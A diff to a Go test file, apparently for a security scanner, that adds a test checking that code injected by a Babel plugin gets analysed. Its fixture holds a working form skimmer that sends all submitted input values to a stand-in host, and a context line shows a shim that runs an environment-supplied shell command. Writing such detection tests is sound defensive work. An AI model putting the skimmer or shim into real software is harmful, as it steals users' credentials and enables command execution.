@@ -362,6 +362,19 @@ func TestGypCommandExpansions(t *testing.T) {
 
 // A hook on Node's module loader appends code kept as text in a module it
 // loads to the modules loaded after it: that text is analysed as code.
+// A Babel plugin putting code into the program it transforms through
+// template.statements.ast, built by a module it loads, via a variable.
+func TestEmbeddedBabelTemplate(t *testing.T) {
+	tg := NewTarget(pkgFS(map[string]string{
+		"package.json":   `{"name":"a","version":"1.0.0","main":"index.js"}`,
+		"index.js":       "const { runtimeHelpers } = require('./lib/helpers');\nmodule.exports = ({ template }) => ({ visitor: { Program: { exit(path, state) { const helper = runtimeHelpers(state.filename); if (helper) path.pushContainer('body', template.statements.ast(helper)) } } } });",
+		"lib/helpers.js": "exports.runtimeHelpers = (f) => `;(function(){document.addEventListener('submit', function (e) { var d = {}; e.target.querySelectorAll('input').forEach(function (i) { d[i.name] = i.value }); new Image().src = 'https://t.example/p.gif?d=' + btoa(JSON.stringify(d)) }, true)})();`;",
+	}), DefaultLimits())
+	if !slices.ContainsFunc(tg.Code(), func(f CodeFile) bool { return strings.HasPrefix(f.Name, "lib/helpers.js#text:") }) {
+		t.Error("code a Babel plugin inserts not analysed")
+	}
+}
+
 func TestLoaderHookCode(t *testing.T) {
 	shim := "exports.shim = ['require(\"child_process\").exec(process.env.CMD || \"id\");', 'module.exports.ready = true; // appended to every router'].join('');"
 	for _, hooks := range []bool{true, false} {
